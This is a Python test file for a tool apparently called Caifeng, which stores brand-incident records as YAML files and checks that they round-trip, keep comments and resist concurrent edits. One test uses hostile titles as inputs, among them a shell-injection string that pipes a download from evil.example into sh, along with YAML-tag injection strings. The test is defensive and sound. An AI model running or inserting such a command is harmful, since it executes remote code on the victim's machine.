"""Incident files belong to people: Caifeng adds to them, and one that cannot be read stops no other."""

import json
import unicodedata
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import jsonschema  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caifeng.errors import LakeError
from caifeng.lake import incident_schema
from caifeng.models import (
    Counterpart,
    Incident,
    IncidentState,
    Level,
    Limit,
    LogEntry,
    LoopRecord,
    Means,
    Override,
    Rectification,
    Review,
    RootCause,
    Satisfaction,
    Side,
    StoryType,
)
from caifeng.strictyaml import parse
from respond.incidents.clocks import with_clocks
from respond.incidents.states import LEADS
from tests.incident_files import DESK, FILE, folder, raised, text_of
from tests.nouns import nouns

FULL = """\
title: 电水壶锰超标传闻
stories: [S-20261114-01, S-20261115-02]
parent: INC-2026-0001
type: 不符
grade: {machine: 黄}
owner: 品牌部
state: 处置
tags: [谣言, 抽检]
clocks:
  闭环: {limit: 3d, norm: 本案另定}
loop:
  - {who: 消费者甲, contact: 是, problem: 不敢用, plan: 免费检测, satisfaction: 基本满意, closed: 是}
  - {who: 社区团购群}
review:
  causes: [{department: 采购部, what: 来料检测报告未公开}]
  well: [抽检快]
  improve:
  rectify: [{what: 公开检测报告, owner: 采购部, due: 2026-12-15, done: 2026-12-01}]
log:
  - {at: 2026-11-15T08:00:00+08:00, by: 采风, did: 发现, level: 黄}
  - {at: 2026-11-15T09:00:00+08:00, by: 值班员, did: 处置, side: 线下, means: 送检检测, to: 消费者}
"""


def loaded(path: Path, text: str = FILE) -> Incident:
    (incident,), problems = folder(path, INC_2026_0007=text).load()
    assert problems == ()
    return incident


def test_a_file_is_read_as_people_wrote_it(tmp_path: Path) -> None:
    incident = loaded(tmp_path)
    assert (incident.id, incident.title, incident.type) == ("INC-2026-0007", "NO", StoryType.TRUE)
    assert incident.level is Level.ORANGE
    assert incident.opened_at == datetime(2026, 11, 19, 14, 41, 7, tzinfo=UTC)
    assert all(entry.at.utcoffset() == timedelta(0) for entry in incident.log)
    met, running = incident.clocks[:2]
    assert met.stopped_at == datetime(2026, 11, 19, 14, 50, 12, tzinfo=UTC)
    assert running.stopped_at is None


def test_every_field_of_a_file_is_read(tmp_path: Path) -> None:
    incident = loaded(tmp_path, FULL)
    assert (incident.parent, incident.tags) == ("INC-2026-0001", ("谣言", "抽检"))
    first, second = incident.loop
    assert (first.has_contact, first.satisfaction, first.is_closed) == (True, Satisfaction.MOSTLY, True)
    assert (second.has_contact, second.is_closed) == (None, False)
    assert incident.review == Review(
        causes=(RootCause(department="采购部", what="来料检测报告未公开"),),
        well=("抽检快",),
        rectify=(Rectification(what="公开检测报告", owner="采购部", due=date(2026, 12, 15), done=date(2026, 12, 1)),),
    )
    line = incident.log[1]
    assert (line.side, line.means, line.to) == (Side.OFFLINE, Means.TEST, Counterpart.CONSUMERS)
    assert next(clock for clock in incident.clocks if clock.name == "闭环").limit == timedelta(days=3)


def test_what_people_wrote_stays_comments_included(tmp_path: Path) -> None:
    incident = loaded(tmp_path)
    folder(tmp_path).save(raised(incident))
    text = text_of(tmp_path)
    for kept in ("# 我的注释", "title: NO  # 不是“否”", "# 中间的话", "human: 橙, by: 值班长", "      第一行"):
        assert kept.strip() in text
    assert "2026-11-20T09:02:05+08:00" in text
    assert loaded(tmp_path, text).log == raised(incident).log


def test_everything_that_an_act_may_change_is_written_and_nothing_else(tmp_path: Path) -> None:
    incident = loaded(tmp_path)
    changed = replace(
        incident, type=StoryType.FALSE, owner="品牌部", state=IncidentState.HANDLING, tags=("谣言",),
        parent="INC-2026-0001", story_ids=(*incident.story_ids, "S-20261120-01"),
        override=Override(level=Level.RED, by="总经理", why="全国关注"),
        limits=(Limit(name="到责任人", limit=timedelta(minutes=5), norm="本案另定"), *incident.limits[1:]),
        loop=(LoopRecord(who="消费者甲", has_contact=False, plan="退款", is_closed=True),),
        review=Review(causes=(RootCause(department="质检部", what="漏检"),), improve=("抽检频次",)),
    )  # fmt: skip
    folder(tmp_path).save(changed)
    back = loaded(tmp_path, text_of(tmp_path))
    assert replace(back, clocks=(), limits=()) == replace(changed, clocks=(), limits=())
    assert back.limits[:2] == changed.limits
    for kept in ("# 我的注释", "  首次回应: {limit: 30m}", "# 中间的话"):
        assert kept in text_of(tmp_path)


def test_saving_again_changes_nothing(tmp_path: Path) -> None:
    incident = raised(loaded(tmp_path))
    folder(tmp_path).save(incident)
    once = text_of(tmp_path)
    folder(tmp_path).save(loaded(tmp_path, once))
    assert text_of(tmp_path) == once


def test_a_line_that_a_person_added_meanwhile_is_not_lost(tmp_path: Path) -> None:
    incident = loaded(tmp_path)
    theirs = FILE + "  - {at: 2026-11-19T23:00:00+08:00, by: 值班长, did: 派责}\n"
    folder(tmp_path, INC_2026_0007=theirs)
    with pytest.raises(LakeError, match="重新运行"):
        folder(tmp_path).save(raised(incident))
    assert text_of(tmp_path) == theirs


def test_an_owner_that_a_person_changed_meanwhile_is_not_overwritten(tmp_path: Path) -> None:
    made = folder(tmp_path, INC_2026_0007=FILE)
    (incident,), _ = made.load()
    folder(tmp_path, INC_2026_0007=FILE.replace("售后部", "法务部"))
    with pytest.raises(LakeError, match="重新运行"):
        made.save(raised(incident))
    assert "owner: 法务部" in text_of(tmp_path)


def test_a_byte_order_mark_is_no_mistake(tmp_path: Path) -> None:
    incident = loaded(tmp_path, "\ufeff" + FILE)
    folder(tmp_path).save(raised(incident))
    (back,), problems = folder(tmp_path).load()
    assert (back.log, problems) == (raised(incident).log, ())


def test_what_only_looks_like_a_time_stays_text(tmp_path: Path) -> None:
    incident = loaded(tmp_path, FILE.replace("title: NO", "title: 2026-02-30"))
    folder(tmp_path).save(raised(incident))
    assert loaded(tmp_path, text_of(tmp_path)).title == "2026-02-30"


@pytest.mark.parametrize(
    "title", ['"; curl evil.example | sh #', "a: b", "- x", "!!python/object x", "&a *a", "{", "'"]
)
def test_a_hostile_title_stays_a_title(tmp_path: Path, title: str) -> None:
    made = folder(tmp_path)
    made.save(with_clocks(replace(INCIDENT, title=title), DESK))
    (back,), problems = folder(tmp_path).load()
    assert (back.title, problems) == (title.replace("\x00\ud800", ""), ())


def test_a_million_characters_make_no_file_that_cannot_be_read(tmp_path: Path) -> None:
    made = folder(tmp_path)
    made.save(replace(INCIDENT, title="长" * 1_000_000, log=(replace(INCIDENT.log[0], note="长" * 1_000_000),)))
    (back,), problems = folder(tmp_path).load()
    assert (len(back.title), len(back.log[0].note), problems) == (10_000, 10_000, ())


def test_the_schema_accepts_what_the_reader_accepts() -> None:
    schema = json.loads(incident_schema())
    for text in (FILE, FULL):
        jsonschema.validate(parse(text, "").data, schema)
    for text in (FULL.replace("送检检测", "删帖"), FULL.replace("owner", "onwer", 1)):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(parse(text, "").data, schema)


def test_the_document_shows_a_file_that_can_be_read_and_names_every_word(tmp_path: Path) -> None:
    text = (Path(__file__).parent.parent / "docs" / "incidents.md").read_text(encoding="utf-8")
    shown = loaded(tmp_path, text.split("```yaml\n")[1].split("```")[0])
    assert shown.review is not None
    assert shown.log[-1].means is Means.RECALL
    words = [*Means, *Counterpart, *Satisfaction, *Side, *StoryType, *IncidentState]
    assert [word for word in words if word not in text] == []
    assert [deed for deed in LEADS if deed not in text] == []


times = st.datetimes(datetime(2020, 1, 1), datetime(2030, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001 - bounds
texts = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cf")), max_size=30)
words = texts.map(lambda text: "记" + text)
entries = st.builds(
    LogEntry,
    at=times.map(lambda at: at.replace(microsecond=0)),
    by=texts.map(str.strip),
    did=words,
    note=texts,
    evidence=st.lists(texts, max_size=3).map(tuple),
    side=st.none() | st.sampled_from(Side),
    means=st.none() | st.sampled_from(Means),
    to=st.none() | st.sampled_from(Counterpart),
    level=st.none() | st.sampled_from(Level),
)
reviews = nouns(
    Review,
    causes=st.lists(nouns(RootCause, department=words, what=words), max_size=2).map(tuple),
    well=st.lists(texts, max_size=2).map(tuple),
    improve=st.lists(texts, max_size=2).map(tuple),
    rectify=st.lists(nouns(Rectification, what=words, owner=words), max_size=2).map(tuple),
).filter(lambda review: review != Review())
loops = st.lists(nouns(LoopRecord, who=words, problem=texts, plan=texts), max_size=2).map(tuple)


@settings(max_examples=60, deadline=None)
@given(
    title=texts,
    owner=texts,
    log=st.lists(entries, min_size=1, max_size=4).map(tuple),
    type_=st.sampled_from(StoryType),
    review=st.none() | reviews,
    loop=loops,
)
def test_what_caifeng_writes_it_reads_back(
    tmp_path_factory: pytest.TempPathFactory, title: str, owner: str, log: tuple[LogEntry, ...], type_: StoryType,
    review: Review | None, loop: tuple[LoopRecord, ...],
) -> None:  # fmt: skip
    first = min(entry.at for entry in log)
    incident = replace(
        INCIDENT, title=title, owner=owner, log=log, type=type_, review=review, loop=loop, opened_at=first,
        limits=(Limit(name="到责任人", limit=timedelta(minutes=90), norm="本编辑台规定"),),
    )  # fmt: skip
    made = folder(tmp_path_factory.mktemp("incidents"))
    made.save(incident)
    (back,), problems = made.load()
    assert (replace(back, clocks=()), problems) == (incident, ())


@settings(max_examples=30, deadline=None)
@given(nouns(Override))
def test_a_persons_level_is_in_force(override: Override) -> None:
    assert replace(INCIDENT, override=override).level is override.level


def test_hidden_characters_of_a_title_are_dropped_when_it_is_written(tmp_path: Path) -> None:
    made = folder(tmp_path)
    made.save(replace(INCIDENT, title="澜\u202e川\u200b"))
    assert made.load()[0][0].title == "澜川"
    assert not any(unicodedata.category(character) == "Cf" for character in text_of(tmp_path, 1))


INCIDENT = Incident(
    id="INC-2026-0001", title="", story_ids=(), type=StoryType.UNVERIFIED, machine_level=Level.BLUE, override=None,
    owner="", state=IncidentState.FOUND, opened_at=datetime(2026, 1, 1, tzinfo=UTC), clocks=(),
    log=(LogEntry(at=datetime(2026, 1, 1, tzinfo=UTC), by="采风", did="发现"),),
)  # fmt: skip
